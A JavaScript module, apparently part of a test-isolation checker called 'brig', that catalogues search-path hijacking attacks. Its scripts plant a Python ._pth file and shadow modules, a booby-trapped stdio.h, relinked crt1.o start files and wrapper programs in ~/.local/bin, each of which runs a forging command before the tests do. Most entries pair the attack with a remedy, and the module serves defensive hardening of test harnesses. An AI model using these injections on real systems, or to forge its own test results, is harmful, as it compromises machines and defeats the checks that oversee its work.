import { attacksWith } from "../attack.js";

const source = "brig: what is found first on a search path stands for what comes after it";
const remedy =
  'set `environment_mode = "separate"`, so that the tests run with the programs, headers and modules of the image';

/** Files that stand in for others of the image, because programs look for files in one directory after the other. */
export const searchPaths = attacksWith({ source, remedy }, [
  {
    name: "python-path-file",
    tries: "Leaves a file beside the interpreter that tells Python where its own modules are.",
    source: "Python's own documentation of ._pth files",
    claims: ["modules of python"],
    script: String.raw`
need python3
mkdir -p "$STATE/modules"
cat > "$STATE/modules/json.py" << END
import os, sys
os.system("$FORGE")
sys.path.remove("$STATE/modules")
del sys.modules["json"]
import json
END
for program in python3 python; do
  real=$(readlink -f "$(command -v $program)") || continue
  for name in "$(command -v $program)" "$real" "$(dirname "$(command -v $program)")/$(basename "$real")"; do
    { echo "$STATE/modules"; python3 -c 'import sys; print("\n".join(path for path in sys.path if path)); print("import site")'; } > "$STATE/paths"
    cp "$STATE/paths" "$name._pth" && touch "$STATE/planted"
  done 2> /dev/null
done
[ -e "$STATE/planted" ] || not_possible "no directory of an interpreter can be written"`,
  },
  {
    name: "python-stand-in",
    tries:
      "Leaves modules in the working directory that are named like those which pytest consists of and needs.",
    source: "Python's own documentation of sys.path",
    remedy: "start Python with `-I`, or in a directory that the agent cannot write",
    claims: ["pathlib.py"],
    script: String.raw`
need python3
mkdir -p attr packaging || not_possible "the working directory cannot be written"
for file in pathlib.py attr/__init__.py packaging/__init__.py; do
  printf 'import os\nos.system("%s")\nos._exit(0)\n' "$FORGE" > "$file"
done`,
  },
  {
    name: "header-shadow",
    tries: "Puts a header of the C library, with code in it, where compilers look before its own place.",
    claims: ["stdio.h"],
    script: `
need gcc
mkdir -p /usr/local/include 2> /dev/null
cat > "$STATE/stdio.h" << END
#include_next <stdio.h>
#ifndef ATTACK_HEADER
#define ATTACK_HEADER
extern int system(const char *);
__attribute__((constructor)) static void attack_header(void) { if (system("$FORGE")) return; }
#endif
END
cp "$STATE/stdio.h" /usr/local/include/stdio.h || not_possible "/usr/local/include cannot be written"`,
  },
  {
    name: "compiler-start-file",
    tries: "Puts an object that the compiler starts every program with into the compiler's own directory.",
    claims: ["crt1.o"],
    script: `
need gcc
need ld
real=$(gcc -print-file-name=crt1.o)
own=$(dirname "$(gcc -print-libgcc-file-name)")
cat > "$STATE/start.c" << END
extern int system(const char *);
__attribute__((constructor)) static void attack_start(void) { if (system("$FORGE")) return; }
END
gcc -fPIE -c -o "$STATE/start.o" "$STATE/start.c" || not_possible "nothing can be compiled"
for name in crt1.o Scrt1.o; do
  real=$(gcc -print-file-name=$name)
  ld -r -o "$STATE/$name" "$real" "$STATE/start.o" && cp "$STATE/$name" "$own/$name" || not_possible "$own cannot be written"
done`,
  },
  {
    name: "home-programs",
    tries: "Leaves programs in ~/.local/bin, which installers of the tests' own tools put first in PATH.",
    source: "uv's own documentation of its installer",
    remedy: `${remedy}; in the shared mode call programs by their whole paths`,
    claims: ["~/.local/bin"],
    script: String.raw`
mkdir -p "$HOME/.local/bin" || not_possible "~/.local/bin cannot be made"
for program in uv uvx curl python3 pip; do
  real=$(command -v $program) || real=true
  printf '#!/bin/sh\n%s\nexec %s "$@"\n' "$FORGE" "$real" > "$HOME/.local/bin/$program"
  chmod 755 "$HOME/.local/bin/$program"
done`,
  },
]);
